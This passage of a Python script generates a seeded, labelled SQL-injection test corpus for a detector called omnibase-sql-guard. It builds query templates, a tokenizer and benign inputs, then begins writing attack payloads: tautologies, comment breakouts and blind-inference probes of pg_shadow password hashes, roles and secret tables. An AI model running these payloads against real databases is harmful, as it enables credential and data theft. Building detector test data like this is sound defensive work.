#!/usr/bin/env python3
"""Seventh held-out SQL-injection corpus for omnibase-sql-guard.

Deterministic (fixed seed), standard library only.  Writes seventh.jsonl.gz
next to this script.  Templates and payload variants are new (not taken from
the earlier make_*.py generators); labelling uses an independent tokenizer:
a filled template is an attack when its token-kind skeleton differs from the
skeletons of benign fills of the same template (or when it does not tokenize).
"""
import gzip
import json
import os
import random
import re
import string
import sys
from collections import Counter, defaultdict

SEED = 70707
R = random.Random(SEED)
OUT = os.path.join(os.path.dirname(os.path.abspath(__file__)), "seventh.jsonl.gz")

# ---------------------------------------------------------------------------
# Own tokenizer
# ---------------------------------------------------------------------------
OPCHARS = set("+-*/<>=~!@#%^&|`?")
PUNCT = set("(),;[]{}.:")
_dollar_re = re.compile(r"\$([A-Za-z_\x80-\uffff][A-Za-z0-9_\x80-\uffff]*)?\$")
_param_re = re.compile(r"\$[0-9]+")


class LexError(Exception):
    pass


def _read_std_string(s, i):
    """s[i] is the opening quote of a standard string; '' escapes."""
    n = len(s)
    j = i + 1
    while j < n:
        if s[j] == "'":
            if j + 1 < n and s[j + 1] == "'":
                j += 2
                continue
            return j + 1
        j += 1
    raise LexError("unterminated string")


def _read_e_string(s, i):
    """s[i] is the opening quote of an E'' string: backslash and '' escapes."""
    n = len(s)
    j = i + 1
    while j < n:
        c = s[j]
        if c == "\\":
            j += 2
            continue
        if c == "'":
            if j + 1 < n and s[j + 1] == "'":
                j += 2
                continue
            return j + 1
        j += 1
    raise LexError("unterminated E string")


def _is_ident_start(c):
    return c.isalpha() or c == "_" or ord(c) > 127


def _is_ident_char(c):
    return c.isalnum() or c in "_$" or ord(c) > 127


def tokenize(s):
    """Return list of (kind, text).  Kinds: STR QID NUM WORD PARAM OP PUNCT COMMENT."""
    toks = []
    i = 0
    n = len(s)
    while i < n:
        c = s[i]
        if c in " \t\n\r\f\v":
            i += 1
            continue
        if s.startswith("--", i):
            j = s.find("\n", i)
            j = n if j < 0 else j
            toks.append(("COMMENT", s[i:j]))
            i = j
            continue
        if s.startswith("/*", i):
            depth = 0
            j = i
            while j < n:
                if s.startswith("/*", j):
                    depth += 1
                    j += 2
                elif s.startswith("*/", j):
                    depth -= 1
                    j += 2
                    if depth == 0:
                        break
                else:
                    j += 1
            if depth != 0:
                raise LexError("unterminated comment")
            toks.append(("COMMENT", s[i:j]))
            i = j
            continue
        prev_ident = i > 0 and _is_ident_char(s[i - 1])
        if not prev_ident and c in "eE" and i + 1 < n and s[i + 1] == "'":
            j = _read_e_string(s, i + 1)
            toks.append(("STR", s[i:j]))
            i = j
            continue
        if not prev_ident and c in "uU" and s.startswith("&'", i + 1):
            j = _read_std_string(s, i + 2)
            toks.append(("STR", s[i:j]))
            i = j
            continue
        if not prev_ident and c in "bBxXnN" and i + 1 < n and s[i + 1] == "'":
            j = _read_std_string(s, i + 1)
            toks.append(("STR", s[i:j]))
            i = j
            continue
        if c == "'":
            j = _read_std_string(s, i)
            toks.append(("STR", s[i:j]))
            i = j
            continue
        if c == '"':
            j = i + 1
            while True:
                k = s.find('"', j)
                if k < 0:
                    raise LexError("unterminated quoted identifier")
                if k + 1 < n and s[k + 1] == '"':
                    j = k + 2
                    continue
                break
            toks.append(("QID", s[i:k + 1]))
            i = k + 1
            continue
        if c == "$":
            m = _param_re.match(s, i)
            if m:
                toks.append(("PARAM", m.group(0)))
                i = m.end()
                continue
            m = _dollar_re.match(s, i)
            if m and not prev_ident:
                tag = m.group(0)
                k = s.find(tag, m.end())
                if k < 0:
                    raise LexError("unterminated dollar quote")
                toks.append(("STR", s[i:k + len(tag)]))
                i = k + len(tag)
                continue
            toks.append(("OP", "$"))
            i += 1
            continue
        if c.isdigit() or (c == "." and i + 1 < n and s[i + 1].isdigit()):
            m = re.compile(r"0[xX][0-9A-Fa-f_]+|0[oO][0-7_]+|0[bB][01_]+|(\d[\d_]*)?(\.\d*)?([eE][+-]?\d+)?").match(s, i)
            j = m.end() if m and m.end() > i else i + 1
            toks.append(("NUM", s[i:j]))
            i = j
            continue
        if _is_ident_start(c):
            j = i + 1
            while j < n and _is_ident_char(s[j]):
                j += 1
            toks.append(("WORD", s[i:j]))
            i = j
            continue
        if c == ":" and s.startswith("::", i):
            toks.append(("PUNCT", "::"))
            i += 2
            continue
        if c in PUNCT:
            toks.append(("PUNCT", c))
            i += 1
            continue
        if c in OPCHARS:
            j = i
            while j < n and s[j] in OPCHARS and not s.startswith("--", j) and not s.startswith("/*", j):
                j += 1
            if j == i:
                j = i + 1
            toks.append(("OP", s[i:j]))
            i = j
            continue
        toks.append(("OTHER", c))
        i += 1
    return toks


def skeleton(sql):
    try:
        toks = tokenize(sql)
    except LexError:
        return ("ERR",)
    out = []
    for k, t in toks:
        if k in ("OP", "PUNCT", "OTHER"):
            out.append(t)
        elif k == "COMMENT":
            out.append("C")
        else:
            out.append(k[0])
    return tuple(out)


def is_multi_statement(sql):
    try:
        toks = tokenize(sql)
    except LexError:
        # count what we can: split on ';' outside obvious quotes is unknowable
        return False
    toks = [t for t in toks if t[0] != "COMMENT"]
    stmts = 0
    cur = 0
    depth = 0
    for k, t in toks:
        if k == "PUNCT" and t in "([":
            depth += 1
        elif k == "PUNCT" and t in ")]":
            depth -= 1
        if k == "PUNCT" and t == ";":
            if depth != 0:
                return False  # a ';' inside parentheses cannot split statements: parse error
            if cur:
                stmts += 1
            cur = 0
        else:
            cur += 1
    if cur:
        stmts += 1
    return stmts > 1


# ---------------------------------------------------------------------------
# Helpers
# ---------------------------------------------------------------------------
def rnum(a, b):
    return R.randint(a, b)


def rword(k=4, alpha=string.ascii_letters):
    return "".join(R.choice(alpha) for _ in range(k))


def delim():
    return "q" + "".join(R.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(3)) + "q"


def chrenc(s):
    return "(" + "||".join("CHR(%d)" % ord(c) for c in s) + ")"


def hexs(s):
    return "".join("%02x" % ord(c) for c in s)


def pick(xs):
    return R.choice(xs)


# ---------------------------------------------------------------------------
# Benign input pools
# ---------------------------------------------------------------------------
POOL = {
    "input_plain": ["tabby", "golden retriever", "rabies booster", "north depot", "crimson", "quarterly review",
                    "espresso tonic", "river trail", "saturn rings", "amber ale", "ticket backlog", "kiosk",
                    "field notes", "evening shift", "spare tyre", "hazelnut", "green tea latte", "sandbox",
                    "orion nebula", "harbour view", "lot seven", "weekly digest", "shelf b", "night owl"],
    "input_apostrophe_names": ["D'Souza", "O'Hara-Lynch", "Ma'ayan", "Dell'Acqua", "L'Oréal Paris", "Guns N' Roses",
                               "Ya'akov", "Sha'Carri", "Ke'Bryan", "Martha's Vineyard", "rock'n'roll", "D'Arcy",
                               "O'Connell St.", "M'Baku", "Hawai'i", "Côte d'Ivoire", "Jack O'Lantern", "it's fine"],
    "input_unicode": ["Zürich", "Ærøskøbing", "Ñandú", "Łódź", "İstanbul", "ქართული", "தமிழ்", "ひらがな",
                      "Ελληνικά", "Москва", "שלום עולם", "مرحبا", "🐾 paws", "naïve café", "ß-Straße", "Ωmega-3",
                      "北京市", "Đà Nẵng", "Þórshöfn", "한국어"],
    "input_long_text": None,  # built below
    "input_punctuation": ["--", "/* */", "*/", ";", ";;", "' '", "()", "(", ")", "[]", "{}", "#hashtag", "a;b;c",
                          "x -- y", "5%", "100%", "_under_", "\\", "\\\\n", "@@", "$", "$$", "$1", "a|b", "&&", "::",
                          "?!", "~", "'", "''", "\"", "a'b'c", "-1", "+/-"],
    "input_sql_words": ["Select a plan", "Union Station", "drop-off point", "Delete key broken", "insert coin",
                        "Update your card", "WHERE IS MY ORDER", "order by phone", "sleep apnea", "Table for two",
                        "benchmark report", "grant application", "Truncated logs", "alter ego", "OR gate", "AND gate",
                        "null and void", "case study", "Create account", "from here to there", "exec summary",
                        "Robert'); DROP TABLE pets;--", "1=1 is always true", "waitfor it", "copy program",
                        "pg_sleep tips", "information schema"],
    "input_json_text": ['{"a": [1, 2]}', '{"note": "x\' y"}', '[{"k": "v"}]', '{"sql": "SELECT 1"}', '{}', '[]',
                        '{"nested": {"deep": null}}', '{"quote": "it\'s"}', '{"n": -1.5e3}', '"just a string"'],
    "input_url_email": ["mila.o'brien@vet.example", "ops+alerts@fleet.example.com", "https://example.net/a?b=1&c=2",
                        "http://localhost:8080/--/", "mailto:desk@example.org", "ftp://mirror.example.org/pub/x.iso",
                        "https://example.com/p/it's-here", "user_99@sub.example.co.uk", "/var/tmp/export.csv",
                        "https://example.org/#/union/select"],
    "input_whitespace": ["  padded  ", "tab\there", "line one\nline two", "\ttabbed", "crlf\r\nend", "trailing ",
                         " ", "a  b   c", "\n", "multi\n\nblank"],
    "input_numeric_string": ["0", "00042", "3.14159", "-7", "1e10", "0x7F", "42.", ".5", "1,000", "12/31"],
    "input_formatted": ["2024-02-29", "2023-11-05T08:30:00Z", "550e8400-e29b-41d4-a716-446655440000",
                        "DE89 3704 0044 0532 0130 00", "+44 20 7946 0958", "SKU-77-BX", "AB12 CDE", "10.0.3.0/24",
                        "ec2-3-120-4-5", "v2.14.3", "PRJ-2291", "4111-1111-1111-1111", "#ff8800", "12:45:00",
                        "ZX-9004-Q", "9780262033848", "LHR-JFK", "2025-W07"],
}
_sentences = ["The clinic opens at 8; walk-ins welcome.", "Don't forget the 'late fee' policy.",
              "Route 66 -- the long way -- is closed.", "Use /* code */ blocks in the wiki.",
              "She asked: \"is 2 > 1?\" and we said yes.", "Sales were up 12% (again).",
              "Drop-off is behind building C.", "Select any two toppings; union rules apply.",
              "We can't ship to P.O. boxes.", "Sleep well, see you tomorrow."]
POOL["input_long_text"] = [" ".join(R.choice(_sentences) for _ in range(R.randint(3, 7))) for _ in range(30)]

NUM_POOL = [str(x) for x in (1, 7, 12, 42, 99, 250, 1001, 31337, 65535, 870021)] + ["-3", "0", "2.5", "19.99", "-0.75", "1000000"]
INT_POOL = [str(x) for x in (1, 3, 8, 16, 25, 50, 100, 404, 2048, 77777)]

DOMAIN = {
    "date": ["2024-01-15", "2023-07-04", "2025-03-31", "2022-12-01", "2024-10-10", "2021-06-30"],
    "ts": ["2024-05-01 12:00:00+00", "2023-09-18T07:45:10Z", "2025-01-01 00:00:00", "2024-12-24 23:59:59+01"],
    "interval": ["5 minutes", "1 hour", "15 minutes", "1 day", "30 seconds", "6 hours"],
    "cidr": ["10.0.0.0/8", "192.168.4.0/22", "172.16.0.0/12", "2001:db8::/32", "100.64.0.0/10"],
    "regex": ["^db-[0-9]+$", "web\\d{2}", "^(edge|core)-", "rack[a-f]$", "[[:digit:]]{3}"],
    "status": ["scheduled", "checked_in", "cancelled", "no_show", "completed", "open", "paid", "void"],
    "tsq": ["kitten & vaccine", "river | lake", "!spam & ham", "orbit:*", "dog <-> park", "leash"],
    "key": ["source", "referrer", "plan", "color", "size", "favourite_food"],
    "skill": ["postgres", "rust", "terraform", "c++", "go", "kotlin", "data-modeling", "k8s"],
    "card": ["LIB-0042-77", "LIB-1190-03", "P-99821", "CARD 77 12", "X0000001"],
    "handle": ["nightowl", "j.smith", "admin_ops", "ops-2", "mila.o'brien", "root_backup"],
    "pin": ["1234", "correct horse", "p@ss w0rd", "Tr0ub4dor&3", "it's-a-secret"],
    "sku": ["BASIL-10", "TOMATO-CHERRY", "PEA-SUGAR", "KALE-RED-RUSSIAN", "MINT-00"],
    "tenant": ["acme", "globex-eu", "initech_us", "umbrella", "tenant-0042"],
    "exam": ["MATH-101", "PHYS-2B", "CHEM-LAB-3", "HIST-9", "CS-61A"],
    "zone": ["north", "south-east", "depot 4", "harbour", "airport"],
    "lot": ["L2024-118", "AX-77/9", "K9-0001", "lot 12b", "B7.3"],
    "step": ["signup", "verify_email", "first_upload", "invite_sent", "checkout"],
    "proto": ["tcp", "udp", "sctp", "icmp"],
    "ingredient": ["lime", "mint", "white rum", "simple syrup", "angostura", "ginger beer"],
    "meter": ["api.calls", "storage.gb", "egress.gb", "seats.active", "build.minutes"],
}
IDENT_POOL = {
    "holdings": ["title", "isbn", "copies_available", "published_year", "lower(title)", "h.title"],
    "visits": ["species", "vet_id", "clinic_id", "visit_reason", "date_trunc('month', visited_at)"],
    "dir": ["ASC", "DESC", "asc", "desc"],
    "qcol": ["species", "visit_reason", "Clinic Name", "weird\"col", "vet_id"],
}

# ---------------------------------------------------------------------------
# Templates
# slot spec: name -> dict(kind=..., dom=...)
# kinds: str estr dollar num int ilist ident dir qid
# ---------------------------------------------------------------------------
T = []


def tpl(name, sql, **slots):
    T.append(dict(name=name, sql=sql, slots=slots))


S = lambda dom="text": dict(kind="str", dom=dom)
ES = lambda dom="text": dict(kind="estr", dom=dom)
N = lambda: dict(kind="num", dom="num")
I = lambda: dict(kind="int", dom="int")

tpl("sv01_workspace_invoices", "SELECT i.id, i.number, i.amount_cents FROM workspace_invoices i WHERE i.workspace_id = {n} AND i.status = '{s}' ORDER BY i.issued_on DESC", n=I(), s=S("status"))
tpl("sv02_seat_lookup", "SELECT seat_id, member_email, role FROM workspace_seats WHERE workspace_slug = '{s}' AND revoked_at IS NULL", s=S("tenant"))
tpl("sv03_usage_rollup", "SELECT date_trunc('hour', recorded_at) AS bucket, sum(units) FROM usage_records WHERE meter_key = '{s}' AND recorded_at >= now() - interval '7 days' GROUP BY 1 ORDER BY 1", s=S("meter"))
tpl("sv04_telemetry_latest", "SELECT DISTINCT ON (device_serial) device_serial, reading, taken_at FROM telemetry_points WHERE fleet_id = {n} ORDER BY device_serial, taken_at DESC", n=I())
tpl("sv05_trip_rank", "SELECT trip_id, driver_id, distance_km, rank() OVER (PARTITION BY driver_id ORDER BY distance_km DESC) FROM fleet_trips WHERE started_at::date = '{s}'", s=S("date"))
tpl("sv06_charger_nearby", "SELECT station_code, ST_Distance(geom, ST_SetSRID(ST_MakePoint({x}, {y}), 4326)) AS d FROM charging_stations ORDER BY d LIMIT 10", x=N(), y=N())
tpl("sv07_trail_bbox", "SELECT trail_name FROM trailheads WHERE geom && ST_MakeEnvelope(-122.6, 37.2, -121.8, 38.0, 4326) AND difficulty = '{s}' AND elevation_gain_m < {n}", s=S(), n=N())
tpl("sv08_wiki_tsquery", "SELECT page_id, ts_rank_cd(body_tsv, q) AS score FROM wiki_pages, to_tsquery('simple', '{s}') q WHERE body_tsv @@ q ORDER BY score DESC LIMIT 15", s=S("tsq"))
tpl("sv09_wiki_headline_dollar", "SELECT ts_headline('simple', body, phraseto_tsquery('simple', $kw${s}$kw$)) FROM wiki_pages WHERE page_id = 77", s=dict(kind="dollar", dom="text", tag="$kw$"))
tpl("sv10_form_answer_key", "SELECT submission_id FROM form_submissions WHERE answers ->> '{k}' = '{s}'", k=S("key"), s=S())
tpl("sv11_form_contains", "SELECT count(*) FROM form_submissions WHERE answers @> '{{\"source\": \"{s}\"}}'", s=S())
tpl("sv12_skills_any", "SELECT person_id FROM consultant_profiles WHERE '{s}' = ANY(skills) AND hourly_rate <= {n}", s=S("skill"), n=N())
tpl("sv13_skills_overlap", "SELECT person_id FROM consultant_profiles WHERE skills && ARRAY['{s}']::text[]", s=S("skill"))
tpl("sv14_quota_upsert", "INSERT INTO api_daily_quota (client_key, day, calls) VALUES ('{s}', current_date, {n}) ON CONFLICT (client_key, day) DO UPDATE SET calls = api_daily_quota.calls + EXCLUDED.calls", s=S("tenant"), n=I())
tpl("sv15_thread_keyset", "SELECT thread_id, last_post_at FROM discussion_threads WHERE (last_post_at, thread_id) < ('{s}'::timestamptz, {n}) ORDER BY last_post_at DESC, thread_id DESC LIMIT 25", s=S("ts"), n=I())
tpl("sv16_pg_stats_table", "SELECT attname, n_distinct, null_frac FROM pg_stats WHERE schemaname = 'public' AND tablename = '{s}'", s=S())
tpl("sv17_appointment_status", "UPDATE vet_appointments SET status = '{s}', updated_by = current_user WHERE appointment_id = {n} RETURNING appointment_id, status", s=S("status"), n=I())
tpl("sv18_vaccination_insert", "INSERT INTO pet_vaccinations (pet_id, vaccine, lot_number, given_on) VALUES ({n}, '{s}', '{t}', current_date) RETURNING id", n=I(), s=S(), t=S("lot"))
tpl("sv19_loan_purge", "DELETE FROM library_loans WHERE patron_card = '{s}' AND returned_at IS NOT NULL RETURNING loan_id", s=S("card"))
tpl("sv20_holdings_sort", "SELECT isbn, title, copies_available FROM library_holdings h WHERE branch_id = 4 ORDER BY {c} {d} NULLS LAST", c=dict(kind="ident", dom="holdings"), d=dict(kind="dir", dom="dir"))
tpl("sv21_courier_lateral", "SELECT c.courier_id, p.lat, p.lon FROM couriers c CROSS JOIN LATERAL (SELECT lat, lon FROM courier_pings WHERE courier_id = c.courier_id ORDER BY pinged_at DESC LIMIT {n}) p WHERE c.zone = '{s}'", n=I(), s=S("zone"))
tpl("sv22_exam_percent_rank", "SELECT student_id, score, percent_rank() OVER (ORDER BY score) FROM exam_scores WHERE exam_code = '{s}'", s=S("exam"))
tpl("sv23_brew_between", "SELECT batch_no, og, fg FROM brew_batches WHERE brewed_on BETWEEN '{s}' AND '{t}' ORDER BY brewed_on", s=S("date"), t=S("date"))
tpl("sv24_sla_in_list", "SELECT sla_id, breach_minutes FROM sla_breaches WHERE queue_id IN ({l}) AND acknowledged = false", l=dict(kind="ilist", dom="ilist"))
tpl("sv25_metric_bucket", "SELECT time_bucket('{s}', ts) AS b, avg(cpu_pct) FROM host_metrics WHERE host = 'db-7' GROUP BY b ORDER BY b", s=S("interval"))
tpl("sv26_sky_page", "SELECT obs_id, ra, dec FROM sky_observations WHERE magnitude < 6.5 ORDER BY obs_id LIMIT {n} OFFSET {m}", n=I(), m=I())
tpl("sv27_kennel_memo_estr", "UPDATE kennel_notes SET memo = E'{e}', edited_at = now() WHERE kennel_id = 31", e=ES())
tpl("sv28_build_log_estr", "SELECT line_no, line FROM build_logs WHERE job_id = 5521 AND line ILIKE E'%{e}%'", e=ES())
tpl("sv29_client_lower", "SELECT coalesce(nickname, legal_name) FROM vet_clients WHERE lower(legal_name) = lower('{s}')", s=S())
tpl("sv30_swipes_having", "SELECT merchant_id, count(*) FROM card_swipes WHERE swiped_at > now() - interval '1 day' GROUP BY merchant_id HAVING count(*) >= {n}", n=I())
tpl("sv31_speed_band", "SELECT CASE WHEN speed_kmh > {n} THEN 'fast' ELSE 'ok' END AS band, count(*) FROM fleet_trips GROUP BY 1", n=N())
tpl("sv32_set_tenant", "SELECT set_config('app.current_tenant', '{s}', false)", s=S("tenant"))
tpl("sv33_funnel_cte", "WITH steps AS (SELECT user_id, min(ts) FILTER (WHERE step = '{s}') AS first_step FROM funnel_events GROUP BY user_id) SELECT count(*) FROM steps WHERE first_step IS NOT NULL", s=S("step"))
tpl("sv34_membership_exists", "SELECT EXISTS (SELECT 1 FROM org_memberships WHERE org_id = {n} AND member_handle = '{s}')", n=I(), s=S("handle"))
tpl("sv35_seed_merge", "MERGE INTO seed_stock t USING (SELECT '{s}'::text AS sku, {n}::int AS qty) s ON t.sku = s.sku WHEN MATCHED THEN UPDATE SET qty = t.qty + s.qty WHEN NOT MATCHED THEN INSERT (sku, qty) VALUES (s.sku, s.qty)", s=S("sku"), n=I())
tpl("sv36_vpn_cidr", "SELECT login_at, client_ip FROM vpn_sessions WHERE client_ip << '{s}'::cidr ORDER BY login_at DESC LIMIT 200", s=S("cidr"))
tpl("sv37_rack_regex", "SELECT hostname, rack FROM rack_servers WHERE hostname ~ '{s}' ORDER BY hostname", s=S("regex"))
tpl("sv38_port_jsonpath", "SELECT hostname, jsonb_path_query(spec, '$.ports[*] ? (@.proto == \"{s}\")') FROM rack_servers", s=S("proto"))
tpl("sv39_cocktail_array", "SELECT recipe_id, title FROM cocktail_recipes WHERE ingredients @> ARRAY['{s}'] ORDER BY title", s=S("ingredient"))
tpl("sv40_visits_group_col", "SELECT {c}, count(*) FROM vet_visits GROUP BY {c} ORDER BY 2 DESC", c=dict(kind="ident", dom="visits"))
tpl("sv41_meter_lag", "SELECT reading_at, kwh - lag(kwh) OVER (ORDER BY reading_at) AS delta FROM smart_meter_reads WHERE meter_id = {n} ORDER BY reading_at", n=I())
tpl("sv42_operator_login", "SELECT operator_id FROM console_operators WHERE handle = '{s}' AND pin_hash = crypt('{t}', pin_hash) AND NOT locked", s=S("handle"), t=S("pin"))
tpl("sv43_macro_dollar", "INSERT INTO macro_snippets (owner_id, body) VALUES (12, $body${s}$body$) RETURNING snippet_id", s=dict(kind="dollar", dom="text", tag="$body$"))
tpl("sv44_visits_qcol", "SELECT \"{q}\", count(*) AS n FROM vet_visits GROUP BY 1", q=dict(kind="qid", dom="qcol"))
tpl("sv45_invoice_note_update", "UPDATE workspace_invoices SET memo = '{s}' WHERE workspace_id = {n} AND number = '{t}'", s=S(), n=I(), t=S("lot"))
tpl("sv46_patient_search", "SELECT pet_id, pet_name, species FROM pets WHERE pet_name ILIKE '{s}%' AND clinic_id = 9 ORDER BY pet_name LIMIT 30", s=S())

TPL = {t["name"]: t for t in T}


def slot_depth(t, slot):
    """Unbalanced '(' before the slot's first placeholder (ignoring quoted text)."""
    pre = t["sql"].split("{" + slot + "}")[0]
    pre = re.sub(r"'[^']*'", "''", pre.replace("{{", "").replace("}}", ""))
    return pre.count("(") - pre.count(")")


def esc(kind, v, slot=None):
    if kind == "str":
        return v.replace("'", "''")
    if kind == "estr":
        return v.replace("\\", "\\\\").replace("'", "''")
    if kind == "qid":
        return v.replace('"', '""')
    return v


def benign_value(t, slot, cat=None):
    sp = t["slots"][slot]
    k, dom = sp["kind"], sp["dom"]
    if k in ("num",):
        return pick(NUM_POOL)
    if k == "int":
        return pick(INT_POOL)
    if k == "ilist":
        return ", ".join(pick(INT_POOL) for _ in range(R.randint(1, 5)))
    if k in ("ident", "dir", "qid"):
        return pick(IDENT_POOL[dom])
    if cat:
        return pick(POOL[cat])
    if dom in DOMAIN:
        return pick(DOMAIN[dom])
    return pick(POOL[pick(["input_plain", "input_unicode", "input_apostrophe_names", "input_formatted"])])


def fill(t, vals):
    """vals: slot -> already-escaped text to splice"""
    return t["sql"].format(**vals)


def benign_fill_all(t, override=None):
    vals = {}
    raw = {}
    for s, sp in t["slots"].items():
        v = benign_value(t, s)
        if sp["kind"] == "dollar" and sp["tag"] in v:
            v = "plain"
        raw[s] = v
        vals[s] = esc(sp["kind"], v)
    if override:
        for s, (rawv, spliced) in override.items():
            raw[s] = rawv
            vals[s] = spliced
    return raw, vals


# benign skeleton sets
BENIGN_SK = {}
for t in T:
    sks = set()
    for _ in range(60):
        raw, vals = benign_fill_all(t)
        sks.add(skeleton(fill(t, vals)))
    # every benign category value in every textual slot
    for s, sp in t["slots"].items():
        if sp["kind"] in ("str", "estr", "dollar"):
            for cat, vs in POOL.items():
                for v in vs:
                    if sp["kind"] == "dollar" and sp["tag"] in v:
                        continue
                    raw, vals = benign_fill_all(t, {s: (v, esc(sp["kind"], v))})
                    sks.add(skeleton(fill(t, vals)))
        if sp["kind"] in ("num", "int"):
            for v in NUM_POOL + INT_POOL:
                raw, vals = benign_fill_all(t, {s: (v, v)})
                sks.add(skeleton(fill(t, vals)))
        if sp["kind"] == "ilist":
            for L in range(1, 13):
                v = ", ".join(str(x) for x in range(1, L + 1))
                raw, vals = benign_fill_all(t, {s: (v, v)})
                sks.add(skeleton(fill(t, vals)))
        if sp["kind"] in ("ident", "dir", "qid"):
            for v in IDENT_POOL[sp["dom"]]:
                raw, vals = benign_fill_all(t, {s: (v, esc(sp["kind"], v))})
                sks.add(skeleton(fill(t, vals)))
    assert ("ERR",) not in sks, t["name"]
    BENIGN_SK[t["name"]] = sks

# ---------------------------------------------------------------------------
# Row collection
# ---------------------------------------------------------------------------
ROWS = []
SEEN = set()


def add(sql, label, family, template, variant, inputs=None, inp=None, dbms="PostgreSQL"):
    if sql in SEEN:
        return False
    SEEN.add(sql)
    ROWS.append(dict(sql=sql, label=label, family=family, template=template,
                     input=inp, inputs=inputs or [], variant=variant, dbms=dbms,
                     multi_statement=is_multi_statement(sql)))
    return True


def attack_fill(t, slot, payload):
    raw, vals = benign_fill_all(t)
    raw[slot] = payload
    vals[slot] = payload  # application splices raw
    sql = fill(t, vals)
    return sql, [raw[s] for s in t["slots"]]


def try_attack(t, slot, payload, family, variant, dbms="PostgreSQL"):
    sql, inputs = attack_fill(t, slot, payload)
    if skeleton(sql) in BENIGN_SK[t["name"]]:
        return False  # stays harmless inside the literal: not an attack
    return add(sql, "attack", family, t["name"], variant, inputs, payload, dbms)


# --- boundaries --------------------------------------------------------------
def breakout(t, slot):
    """(prefix that closes the slot's context, depth)"""
    sp = t["slots"][slot]
    d = slot_depth(t, slot)
    k = sp["kind"]
    if k in ("str", "estr"):
        q = "'"
        if "{{\"" in t["sql"] or '\\"{' + slot in t["sql"] or '"{' + slot + '}"' in t["sql"]:
            q = "'"  # string still closes with a single quote
        return q + ")" * d, d
    if k == "dollar":
        return sp["tag"] + ")" * d, d
    if k == "qid":
        return '"' + ")" * d, d
    return ")" * d, d


COMMENT_TAILS = ["--", "-- ", "-- -", "--+", "-- " + "{w}", "/*", "--\n", ";--", "; -- x"]


def tail_comment():
    c = pick(COMMENT_TAILS)
    return c.replace("{w}", rword(4))


def tail_balance(t, slot, d):
    k = t["slots"][slot]["kind"]
    if k in ("str", "estr"):
        w = rword(4)
        return " AND " + "(" * d + "'%s'='%s" % (w, w)
    if k == "dollar":
        tag = t["slots"][slot]["tag"]
        return " AND " + "(" * d + "%s%s" % (tag, tag) + "=" + tag
    if k == "qid":
        return ""
    r = rnum(1000, 9999)
    return " AND " + "(" * d + "%d=%d" % (r, r)


def orig_for(t, slot):
    sp = t["slots"][slot]
    if sp["kind"] in ("num", "int", "ilist"):
        return pick(["", "", "-"]) + pick(INT_POOL) if R.random() < 0.8 else str(-rnum(1000, 9999))
    v = benign_value(t, slot)
    if sp["kind"] == "dollar" and sp["tag"] in v:
        v = "x"
    if "'" in v and sp["kind"] in ("str", "estr"):
        v = v.replace("'", "")
    return pick([v, v, "", rword(4, string.ascii_lowercase)])


def wrap(t, slot, core, mode="auto", glue=" "):
    """Build the raw input: orig + breakout + core + tail."""
    brk, d = breakout(t, slot)
    o = orig_for(t, slot)
    if t["slots"][slot]["kind"] in ("ident", "dir"):
        o = benign_value(t, slot)
    if mode == "auto":
        mode = pick(["comment", "comment", "balance"]) if t["slots"][slot]["kind"] not in ("ident", "dir") else "comment"
    if mode == "comment":
        tl = tail_comment()
        if core.startswith(";") and tl.startswith(";"):
            tl = tl[1:]
        return o + brk + (glue if not core.startswith(";") else "") + core + tl
    if mode == "none":
        return o + brk + (glue if not core.startswith(";") else "") + core
    return o + brk + glue + core + tail_balance(t, slot, d)


def injectable_slots(kinds=None):
    out = []
    for t in T:
        for s, sp in t["slots"].items():
            if kinds is None or sp["kind"] in kinds:
                out.append((t, s))
    return out


ALL_SLOTS = injectable_slots()
VALUE_SLOTS = injectable_slots(("str", "estr", "dollar", "num", "int", "ilist"))
STR_SLOTS = injectable_slots(("str",))
NUM_SLOTS = injectable_slots(("num", "int", "ilist"))
ORDER_SLOTS = injectable_slots(("ident", "dir"))
ESTR_SLOTS = injectable_slots(("estr",))

# ---------------------------------------------------------------------------
# Hand-written PostgreSQL payload cores
# ---------------------------------------------------------------------------
def inf_pg():
    c = rnum(40, 120)
    i = rnum(1, 9)
    return pick([
        "ascii(substr(current_user,%d,1))>%d" % (i, c),
        "(SELECT count(*) FROM pg_roles WHERE rolsuper)>%d" % rnum(0, 3),
        "length(current_database())=%d" % rnum(3, 14),
        "starts_with(version(),'PostgreSQL %d')" % rnum(11, 17),
        "(SELECT substring(passwd,%d,1) FROM pg_shadow WHERE usename='postgres')='%s'" % (i, pick("abcdef0123456789")),
        "get_byte(convert_to(current_user,'UTF8'),%d)>%d" % (i - 1, c),
        "position('%s' in current_user)=1" % pick("pagrs"),
        "left(current_setting('server_version'),2)='%d'" % rnum(12, 17),
        "(SELECT rolcreaterole FROM pg_roles WHERE rolname=current_user)",
        "current_user ~ '^%s'" % pick(["post", "app", "adm", "rds"]),
        "(SELECT count(*) FROM information_schema.tables WHERE table_name='%s')=1" % pick(["api_tokens", "payment_cards", "staff_pw", "secrets"]),
        "octet_length((SELECT string_agg(usename,'') FROM pg_user))>%d" % rnum(5, 60),
        "(SELECT ascii(substring(datname FROM %d FOR 1)) FROM pg_database OFFSET 1 LIMIT 1)<%d" % (i, c),
    ])


def hand_cores(family):
    """Return list of (variant, core, mode) for a family; mode is wrap mode."""
    r = rnum(2, 9)
    w = rword(5, string.ascii_lowercase)
    if family == "tautology":
        return [("or_num_ne", "OR %d<>%d" % (r, r + 1)), ("or_between", "OR %d BETWEEN %d AND %d" % (r, r - 1, r + 3)),
                ("or_not_false", "OR NOT false"), ("or_is_not_null", "OR %d IS NOT NULL" % r),
                ("or_like", "OR '%s' LIKE '%s%%'" % (w, w[:2])), ("or_regex", "OR '%s' ~ '^%s'" % (w, w[0])),
                ("or_any_array", "OR %d = ANY(ARRAY[%d,%d])" % (r, r, r + 5)), ("or_exists", "OR EXISTS(SELECT 1)"),
                ("or_bool_cast", "OR 't'::boolean"), ("or_empty_eq", "OR ''=''"), ("or_in_str", "OR '%s' IN ('%s','zz')" % (w, w)),
                ("or_gt", "OR %d>%d" % (r + 10, r)), ("or_distinct", "OR NULL IS NOT DISTINCT FROM NULL"),
                ("or_length", "OR length('%s')=%d" % (w, len(w)))]
    if family == "boolean_blind":
        return [("and_inference", "AND " + inf_pg()), ("and_case_inference", "AND (CASE WHEN %s THEN true ELSE false END)" % inf_pg()),
                ("and_exists_inference", "AND EXISTS(SELECT 1 WHERE %s)" % inf_pg()),
                ("or_inference_false_orig", "AND %d=%d OR %s" % (r, r + 1, inf_pg()))]
    if family == "time_pg_sleep":
        s = rnum(3, 12)
